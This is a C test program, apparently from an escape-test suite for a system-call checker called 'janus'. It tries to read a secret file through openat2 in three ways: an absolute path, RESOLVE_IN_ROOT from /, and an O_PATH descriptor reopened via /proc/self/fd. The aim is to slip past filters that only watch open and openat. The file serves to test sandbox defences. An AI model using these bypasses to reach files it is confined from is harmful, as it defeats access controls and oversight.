/* e0303-openat2 - openat2(): the same open with its flags in memory.
 *
 * Attack: openat2 takes its flags and resolve controls in a struct in the
 * program's memory, a place a checker must read (and that can change);
 * a checker that only knows open/openat lets it through.  Tries the
 * secret by absolute path, and relative to / with RESOLVE_IN_ROOT.
 * Source: janus team (DESIGN.md aliases: open/openat/openat2).
 * Usage: e0303-openat2 SECRET */
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0303-openat2 SECRET");
	struct open_how how;
	memset(&how, 0, sizeof how);
	how.flags = O_RDONLY | O_CLOEXEC;
	esc_show_fd("openat2 SECRET", syscall(SYS_openat2, AT_FDCWD, argv[1], &how, sizeof how));
	int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (root < 0)
		root = AT_FDCWD;
	how.resolve = RESOLVE_IN_ROOT;
	esc_show_fd("openat2 RESOLVE_IN_ROOT from /",
		    syscall(SYS_openat2, root, argv[1] + 1, &how, sizeof how));
	how.resolve = 0;
	how.flags = O_RDONLY | O_PATH;
	long fd = syscall(SYS_openat2, AT_FDCWD, argv[1], &how, sizeof how);
	esc_show_result("openat2 O_PATH of SECRET", fd);
	if (fd >= 0) {
		char p[64];
		snprintf(p, sizeof p, "/proc/self/fd/%ld", fd);
		esc_try_read("reopen of the O_PATH descriptor via /proc/self/fd", p);
	}
	return 0;
}
